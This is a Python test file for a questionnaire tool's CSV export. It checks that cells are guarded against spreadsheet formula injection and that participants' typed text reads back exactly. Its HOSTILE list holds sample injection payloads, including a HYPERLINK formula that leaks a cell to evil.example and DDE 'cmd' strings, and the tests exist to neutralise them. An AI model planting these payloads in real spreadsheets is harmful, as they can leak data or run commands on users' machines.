"""The answers CSV (the workshop's export): safe to open in a spreadsheet, and read back by `dealcraft report`'s
importer with every typed text and every number as it was."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.answers.export import answers_csv, formula_safe, from_formula_safe
from generator.answers.imports import load_inputs, load_map
from generator.questionnaire.model import Questionnaire

QUESTIONNAIRE = Questionnaire.model_validate(
    {
        "id": "sheet",
        "title": "Sheet check",
        "version": 2,
        "bands": [{"id": "low", "min": 0, "label": "Low"}, {"id": "high", "min": 50, "label": "High"}],
        "dimensions": [{"id": "d", "title": "D"}],
        "questions": [
            {"id": "agree", "type": "likert", "text": "I agree.", "dimension": "d"},
            {
                "id": "kind",
                "type": "multi",
                "text": "Which?",
                "required": False,
                "options": [{"id": "a", "label": "A"}, {"id": "b", "label": "B"}],
            },
            {"id": "change", "type": "number", "text": "The change in price", "required": False},
            {"id": "notes", "type": "text", "text": "Notes", "required": False},
        ],
    }
)

# What a spreadsheet runs as a formula when a cell starts with it (OWASP: =, +, -, @, tab, carriage return).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by the participant",
    "''+two apostrophes",
    "Ada Lovelace",
    "'Tis fine",
]


def document(name: str, notes: str | None, change: float | None) -> dict[str, Any]:
    answers: dict[str, Any] = {"agree": 4, "kind": ["b", "a"]}
    if notes is not None:
        answers["notes"] = notes
    if change is not None:
        answers["change"] = change
    return {
        "questionnaire": "sheet",
        "version": 2,
        "respondent": {"name": name, "group": "=Room 1", "email": "-ada@example.org"},
        "submitted_at": "2026-12-02T10:42:00Z",
        "answers": answers,
    }


def read_back(tmp_path: Path, documents: list[dict[str, Any]]) -> tuple[str, list[Any]]:
    text = answers_csv(documents, [q.id for q in QUESTIONNAIRE.questions])
    path = tmp_path / "sheet.csv"
    path.write_text(text, encoding="utf-8")
    loaded = list(load_inputs([path], {"sheet": QUESTIONNAIRE}, None))
    assert all(item.document is not None for item in loaded), [p for item in loaded for p in item.problems]
    return text, [item.document for item in loaded]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_starts_a_formula_and_the_text_comes_back(text: str) -> None:
    written = formula_safe(text)
    assert not written.startswith(FORMULA_STARTS)
    assert from_formula_safe(written) == text


@given(st.text(max_size=30))
def test_undoing_is_exact_for_any_text(text: str) -> None:
    written = formula_safe(text)
    assert not written.startswith(FORMULA_STARTS)
    assert from_formula_safe(written) == text


def test_the_export_reads_back_with_hostile_names_and_texts(tmp_path: Path) -> None:
    documents = [
        document(name, notes, change)
        for name, notes, change in zip(
            HOSTILE,
            ["=1+1", "\tindented note", "\r\nstarts with a line break", "-", None, "plain", "@here", "+"],
            [-3, -2.5, 0, 1000000, None, -0.25, 12, None],
            strict=True,
        )
    ]
    text, loaded = read_back(tmp_path, documents)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0][:6] == ["questionnaire", "version", "name", "email", "group", "submitted_at"]
    change_column = rows[0].index("change")
    for row in rows[1:]:
        typed = [cell for i, cell in enumerate(row) if i != change_column]
        assert not any(cell.startswith(FORMULA_STARTS) for cell in typed), row
    # numbers stay numbers in the sheet: -3 is written -3, not '-3
    assert [row[change_column] for row in rows[1:]] == ["-3", "-2.5", "0", "1000000", "", "-0.25", "12", ""]
    for doc, back in zip(documents, loaded, strict=True):
        assert back.respondent.name == doc["respondent"]["name"]
        assert back.respondent.group == "=Room 1" and back.respondent.email == "-ada@example.org"
        assert dict(back.answers) == doc["answers"]
        if "change" in doc["answers"]:
            assert type(back.answers["change"]) is type(doc["answers"]["change"])


def test_an_apostrophe_before_ordinary_text_is_the_participants_own(tmp_path: Path) -> None:
    """Only the prefix the export adds is undone: "'Tis" and "Rock 'n' roll" read back unchanged."""
    _, loaded = read_back(tmp_path, [document("'Tis Ada", "Rock 'n' roll", None)])
    assert loaded[0].respondent.name == "'Tis Ada"
    assert loaded[0].answers["notes"] == "Rock 'n' roll"


def test_only_our_exports_header_says_its_cells_carry_the_guard(tmp_path: Path) -> None:
    """A CSV typed by hand or exported by another tool never went through formula_safe: an answer there that starts
    with '= or '- is the person's own and keeps its quote (the importer used to take it off in any CSV)."""
    own = ["'=SUM is how I would write it", "'- no deal -' was my line"]
    path = tmp_path / "sheet.csv"
    path.write_text(f"name,agree,notes\nAda,4,{own[0]}\nBo,3,{own[1]}\n", encoding="utf-8")
    loaded = list(load_inputs([path], {"sheet": QUESTIONNAIRE}, None))
    assert [item.document.answers["notes"] for item in loaded if item.document] == own

    forms = tmp_path / "forms.csv"  # a forms export read through a map is never ours either
    forms.write_text(f"Your name,Agree?,Anything else?\nAda,4,{own[0]}\n", encoding="utf-8")
    mapping = tmp_path / "map.yaml"
    mapping.write_text(
        "questionnaire: sheet\ncolumns:\n  Your name: name\n  Agree?: agree\n  Anything else?: notes\n",
        encoding="utf-8",
    )
    (mapped,) = load_inputs([forms], {"sheet": QUESTIONNAIRE}, load_map(mapping))
    assert mapped.document is not None and mapped.document.answers["notes"] == own[0]


def test_a_header_with_our_columns_in_another_order_is_not_ours(tmp_path: Path) -> None:
    path = tmp_path / "sheet.csv"
    path.write_text(
        "name,questionnaire,version,email,group,submitted_at,round,participant,notes\nAda,sheet,2,,,,,,'=x\n",
        encoding="utf-8",
    )
    (item,) = load_inputs([path], {"sheet": QUESTIONNAIRE}, None)
    assert item.document is not None and item.document.answers["notes"] == "'=x"


TYPED = st.text(
    alphabet=st.one_of(
        st.sampled_from("'=+-@\t\n\r ;,\""), st.characters(codec="utf-8", exclude_categories=("Cs", "Cc"))
    ),
    min_size=1,
    max_size=20,
).filter(lambda text: text.strip() != "")


@settings(max_examples=60, deadline=None)
@given(notes=st.lists(TYPED, min_size=1, max_size=4))
def test_our_export_reads_back_exactly_for_any_text(notes: list[str]) -> None:
    """Through a real file: whatever a participant typed comes back from our export as it was, guard or no guard
    (a lone carriage return, written unquoted, once split the row: '\r0' came back as a row for questionnaire '0')."""
    with tempfile.TemporaryDirectory() as folder:
        _, loaded = read_back(Path(folder), [document("Ada", text, None) for text in notes])
    assert [doc.answers["notes"] for doc in loaded] == notes
